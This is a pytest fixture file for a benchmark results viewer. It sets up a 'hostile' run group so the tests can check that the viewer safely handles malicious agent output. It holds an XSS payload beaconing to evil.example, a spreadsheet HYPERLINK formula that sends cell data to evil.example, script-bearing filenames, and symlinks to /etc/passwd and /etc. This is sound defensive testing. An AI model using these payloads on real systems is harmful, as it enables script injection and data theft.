"""Run groups, including hostile ones, and the viewer application for them: called directly or started as by users."""

from __future__ import annotations

import asyncio
import json
import os
import signal
import subprocess
import sys
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field, replace
from pathlib import Path
from typing import Any

import pytest

from pytest_mlebench.catalog import default_catalogue
from pytest_mlebench.extras.viewer.app import application
from pytest_mlebench.extras.viewer.index import RunIndex
from pytest_mlebench.results.findings import Finding, Findings, Verdict
from tests.groups import record_with, save_group, with_timeline
from tests.reports.conftest import browser, open_tab

__all__ = ["browser", "open_tab"]

EVIL = "<script>window.owned=1</script><img src=http://evil.example/x onerror=window.owned=2>\x1b[2J\u202e'\"`"
FORMULA = '=HYPERLINK("http://evil.example/"&A1)'
SMOKE = ("smoke-breast-cancer", "smoke-diabetes", "smoke-digits")


@dataclass
class Answer:
    status: int
    headers: dict[str, str]
    body: bytes = b""
    parts: list[bytes] = field(default_factory=list)

    @property
    def text(self) -> str:
        return self.body.decode()


Ask = Callable[..., Answer]


def asker(app: Any) -> Ask:
    """Calls an application like a local browser."""

    def ask(path: str, method: str = "GET", **headers: str) -> Answer:
        given = {"host": "127.0.0.1:7575"} | {name.replace("_", "-"): value for name, value in headers.items()}
        path, _, query = path.partition("?")
        from urllib.parse import unquote

        scope = {
            "type": "http",
            "asgi": {"version": "3.0"},
            "http_version": "1.1",
            "method": method,
            "scheme": "http",
            "path": unquote(path),
            "raw_path": path.encode(),
            "root_path": "",
            "query_string": query.encode(),
            "headers": [(name.encode(), value.encode()) for name, value in given.items()],
            "client": ("127.0.0.1", 5),
            "server": ("127.0.0.1", 7575),
        }
        answer = Answer(0, {})

        async def receive() -> dict[str, Any]:
            await asyncio.sleep(60)
            return {"type": "http.disconnect"}

        first = True

        async def give() -> dict[str, Any]:
            nonlocal first
            if first:
                first = False
                return {"type": "http.request", "body": b"", "more_body": False}
            return await receive()

        async def send(message: dict[str, Any]) -> None:
            if message["type"] == "http.response.start":
                answer.status = message["status"]
                answer.headers = {name.decode(): value.decode() for name, value in message["headers"]}
            else:
                answer.body += message.get("body", b"")

        asyncio.run(app(scope, give, send))
        return answer

    return ask


@pytest.fixture(scope="session")
def runs_dir(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Two comparable groups, and one whose agent wrote scripts wherever it could."""
    root = tmp_path_factory.mktemp("runs")
    catalogue = default_catalogue()
    outcomes = {"one": ("gold", "bronze", "crashed"), "two": ("silver", "silver", "invalid_submission")}
    for name, own in outcomes.items():
        records = []
        for id, outcome in zip(SMOKE, own, strict=True):
            record = record_with(catalogue[id], outcome, agent=f"agent-{name}")
            spent = {"calls": 3, "cost": 1.5, "known_cost": 1.5, "tokens": {"input": 3000, "output": 50}}
            record = replace(record, llm=spent)
            if record.score is not None:
                record = with_timeline(record, catalogue[id], (0.2, None), (0.6, record.report.median_threshold))
            records.append(record)
        save_group(root / name, records, planned=[record.key for record in records])
    write_trajectory(root / "one/smoke-digits_agent-one-0", 2000)
    write_trajectory(root / "one/smoke-diabetes_agent-one-0", 24)
    write_trajectory(root / "two/smoke-diabetes_agent-two-0", 12)
    hostile(root)
    return root


def write_trajectory(run_dir: Path, count: int, text: str = "") -> None:
    steps: list[dict[str, Any]] = [{"step_id": 1, "source": "user", "message": text or "Solve it."}]
    for number in range(2, count + 1):
        failed = number % 100 == 0
        steps.append(
            {
                "step_id": number,
                "timestamp": f"2026-03-01T12:{number // 60 % 60:02}:{number % 60:02}+00:00",
                "source": "agent",
                "message": text or f"Attempt {number}.",
                "model_name": text or "gpt",
                "tool_calls": [
                    {
                        "tool_call_id": "a",
                        "function_name": text or "bash",
                        "arguments": {"command": text or f"python train.py --seed {number}"},
                    }
                ],
                "observation": {
                    "results": [
                        {"source_call_id": "a", "content": text or ("ValueError: no" if failed else f"ok {number}")}
                    ]
                },
                "metrics": {"prompt_tokens": 1000, "completion_tokens": 10, "cost_usd": 0.01},
            }
        )
    values = {"session_id": text or "s", "agent": {"name": text or "react"}, "steps": steps, "notes": text}
    (run_dir / "trajectory.json").write_text(json.dumps(values))


def hostile(root: Path) -> None:
    competition = default_catalogue()[SMOKE[0]]
    record = record_with(competition, "invalid_submission", agent="agent")
    record = replace(
        record,
        detail=EVIL,
        report=replace(record.report, error=EVIL),
        llm={"calls": 1, "cost": 1.0, "models": {EVIL: {"provider": EVIL, "calls": 1}}},
    )
    other = record_with(competition, "gold", agent="agent", seed=1)
    llm = {"calls": 1, "cost": 1.0, "models": {f" {FORMULA}": {"provider": EVIL, "calls": 1}}}
    other = replace(other, agent=EVIL, category=FORMULA, detail=EVIL, llm=llm)
    save_group(root / "hostile", [record, other], planned=[record.key])
    manifest = root / "hostile/manifest.json"
    values = json.loads(manifest.read_text()) | {"options": {"--title": EVIL}}
    manifest.write_text(json.dumps(values))
    run_dir = root / "hostile" / record.run_id
    finding = Finding(
        run_id=record.run_id, scanner="network", verdict=Verdict.violation, text=EVIL, quote=EVIL, file=EVIL, at=12.0
    )
    Findings(version="1", audited_at="", runs=(record.run_id,), findings=(finding,)).write(root / "hostile")
    write_trajectory(run_dir, 5, EVIL)
    write_trajectory(root / "hostile" / other.run_id, 5, FORMULA)
    log = (
        b"Error: "
        + EVIL.encode()
        + b"\n\xff\xfe invalid\n"
        + b"A" * (1 << 20)
        + b"\n\x1b]0;owned\x07\x1b[31mred\x1b[0m\n"
    )
    (run_dir / "run.log").write_bytes(log)
    (run_dir / "submission/submission.csv").write_text(f'id,"{EVIL.replace(chr(34), "")}"\n1,2\n')
    (run_dir / "code").mkdir()
    (run_dir / "code" / "<script>window.owned=3<").write_text(EVIL)
    (run_dir / "code/evil.js").write_text("window.owned = 4")
    (run_dir / "code/page.html").write_text(EVIL)
    (run_dir / "code/link").symlink_to("/etc/passwd")
    (run_dir / "code/folder").symlink_to("/etc")
    os.mkfifo(run_dir / "code/pipe")
    (root / "linked").symlink_to("/etc")


@pytest.fixture(scope="session")
def ask(runs_dir: Path) -> Iterator[Ask]:
    index = RunIndex(runs_dir)
    index.refresh(thorough=True)
    yield asker(application(index, address="127.0.0.1"))
    index.close()


@pytest.fixture(scope="session")
def served(runs_dir: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """The URL of ``mlebench view``, which ends on Ctrl-C. No data is prepared."""
    data_dir = tmp_path_factory.mktemp("data")
    command = [sys.executable, "-m", "pytest_mlebench.cli", "view", str(runs_dir), "--port=0", f"--data-dir={data_dir}"]
    process = subprocess.Popen(command, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    assert process.stdout is not None
    url = process.stdout.readline().strip()
    yield url.rstrip("/")
    process.send_signal(signal.SIGINT)
    _, errors = process.communicate(timeout=60)
    assert (process.returncode, errors) == (0, "")
